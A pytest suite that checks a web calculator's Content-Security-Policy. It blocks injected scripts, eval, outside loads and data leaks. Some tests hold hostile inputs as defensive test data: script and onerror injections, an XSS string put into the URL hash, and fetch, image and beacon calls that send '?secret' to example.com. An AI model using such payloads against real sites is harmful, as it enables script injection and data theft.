"""What the page may do, and that nothing else runs in it."""

import base64
import hashlib
import html.parser
import re
import subprocess
import sys

import pytest
from conftest import DIST, WEB

PAGES = sorted("/" + path.relative_to(DIST).as_posix() for path in DIST.rglob("*.html"))
NAMES = [page.removesuffix("index.html") for page in PAGES]


class Tags(html.parser.HTMLParser):
    """All tags of a page with their attributes, and what is written inside scripts and styles."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.inside, self.texts = [], None, []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))
        self.inside = tag

    def handle_endtag(self, _):
        self.inside = None

    def handle_data(self, data):
        if self.inside in ("script", "style") and data.strip():
            self.texts.append(data)


def tags(page):
    return Tags((DIST / page.lstrip("/")).read_text(encoding="utf-8"))


def policy(page):
    """The Content-Security-Policy of a page: sources by directive."""
    found = [attributes["content"] for tag, attributes in tags(page).tags
             if tag == "meta" and attributes.get("http-equiv", "").lower()
             == "content-security-policy"]
    assert len(found) == 1, f"{page} has {len(found)} policies"
    directives = [part.split() for part in found[0].split(";") if part.strip()]
    return {name: sources for name, *sources in directives}


@pytest.mark.parametrize("page", PAGES)
def test_the_policy_is_strict(page):
    directives = policy(page)
    assert directives["default-src"] == ["'none'"]
    for kind in ("script-src", "style-src"):
        assert directives[kind] and "'self'" not in directives[kind]
    assert directives["base-uri"] == ["'none'"]
    assert directives["form-action"] == ["'none'"]
    for name, sources in directives.items():
        allowed = {"'self'", "'none'", "'wasm-unsafe-eval'", "blob:" if name == "img-src" else ""}
        if name in ("require-trusted-types-for", "trusted-types"):
            continue
        sources = [each for each in sources if not each.startswith("'sha256-")]
        assert set(sources) <= allowed, f"{name} {sources}"


@pytest.mark.parametrize("page", PAGES)
def test_the_policy_comes_before_what_it_is_for(page):
    names = [tag for tag, attributes in tags(page).tags
             if tag in ("script", "link", "style", "img")
             or "http-equiv" in attributes]
    assert names[0] == "meta", names


@pytest.mark.parametrize("page", PAGES)
def test_what_is_inline_is_allowed_and_nothing_is_from_elsewhere(page):
    found = tags(page)
    directives = policy(page)
    allowed = {*directives["script-src"], *directives["style-src"]}
    for text in found.texts:
        digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in allowed, text[:100]
    for tag, attributes in found.tags:
        assert tag not in ("iframe", "object", "embed", "base"), tag
        for name, value in attributes.items():
            assert not name.startswith("on") and name != "style", (tag, name)
            if name in ("src", "href", "action", "srcset", "data") and tag != "a":
                assert not re.match(r"[a-z]+:|//", value), (tag, name, value)


@pytest.mark.parametrize("name", NAMES)
def test_no_page_complains(host, new_page, name):
    """That is in the tab's own end, as everywhere; here no page is left out."""
    page = new_page(keeps_files=True)
    page.open(name)
    page.run("navigator.serviceWorker.ready.then(() => 0)")
    assert page.run("document.title")
    for _ in range(12):
        page.press("Tab").result(10)
    page.settle()


def test_an_injected_script_does_not_run(page, expects_complaint):
    expects_complaint("Content Security Policy")
    page.run("""
        const script = document.createElement('script');
        script.textContent = 'window.isHacked = true';
        document.body.append(script);
        const picture = document.createElement('img');
        picture.setAttribute('onerror', 'window.isHacked = true');
        picture.src = 'data:,';
        document.body.append(picture);
        const link = document.createElement('a');
        link.href = 'javascript:window.isHacked = true';
        document.body.append(link);
        link.click();
        0
    """)
    page.run("new Promise((resolve) => setTimeout(resolve, 100))")
    assert page.run("window.isHacked") is None


def test_texts_do_not_become_code(page, expects_complaint):
    expects_complaint("Content Security Policy")
    answer = page.call("Runtime.evaluate", allowUnsafeEvalBlockedByCSP=False,
                       expression="new Function('return 1')()")
    assert "EvalError" in answer["exceptionDetails"]["exception"]["description"]


def test_nothing_can_be_sent_elsewhere(page, expects_complaint, devtools):
    expects_complaint("Content Security Policy")
    expects_complaint("violates the document")
    sent = page.run("fetch('https://example.com/?secret').then(() => 'sent', () => 'not sent')")
    assert sent == "not sent"
    page.run("void (new Image().src = 'https://example.com/?secret')")
    beacon = page.run("""
        new Promise((resolve) => {
          document.addEventListener('securitypolicyviolation',
            ({ effectiveDirective }) => resolve(effectiveDirective));
          navigator.sendBeacon('https://example.com/?secret');
          setTimeout(() => resolve('no violation'), 500);
        })
    """)
    assert beacon == "connect-src"
    # What the policy held back is named as a request, and never went out.
    devtools.forget_requests("https://example.com/")


def test_what_is_typed_stays_text(page):
    page.permit("clipboardReadWrite", "clipboardSanitizedWrite")
    evil = "<img src=x onerror=alert(1)><script>alert(2)</script>"
    page.run(f"location.hash = '#expr=' + encodeURIComponent({evil!r})")
    page.wait_for(lambda: page.state()["notice"])
    assert page.count("img, main script") == 0


def test_the_module_imports_nothing(host, page):
    imports = page.run("fetch('ExactlyWeb.wasm').then((answer) => answer.arrayBuffer())"
                       ".then(WebAssembly.compile)"
                       ".then((module) => WebAssembly.Module.imports(module).length)")
    assert imports == 0


def test_every_file_of_a_visit_is_of_the_folder(host, new_page):
    page = new_page(keeps_files=True)
    page.open()
    page.command("history")
    page.wait_for(lambda: page.box("#panel"))
    page.run("navigator.serviceWorker.ready.then(() => 0)")
    page.settle(quiet=200)
    missing = [path for path in host.requests if host.content(path) is None]
    assert not missing


@pytest.fixture
def served(host):
    """The host's address as that of Apps/Web/serve, which sends a policy of its own."""
    process = subprocess.Popen([sys.executable, WEB / "serve", "--port", "0", DIST],
                               stdout=subprocess.PIPE, text=True)
    host.stop()
    host.port = int(process.stdout.readline().rpartition(":")[2].rstrip("/\n"))
    yield host
    process.terminate()
    process.wait()


def test_the_page_works_with_the_headers_of_serve(served, new_page):
    """There the policy holds for the workers, too."""
    page = new_page(keeps_files=True)
    page.open()
    page.type("1/3=")
    page.settle()
    page.shows("0.33333333")
    page.run("navigator.serviceWorker.ready.then(() => 0)")
    policy = page.run("fetch('./').then(({ headers }) => headers.get('Content-Security-Policy'))")
    assert "frame-ancestors 'none'" in policy and "default-src 'none'" in policy
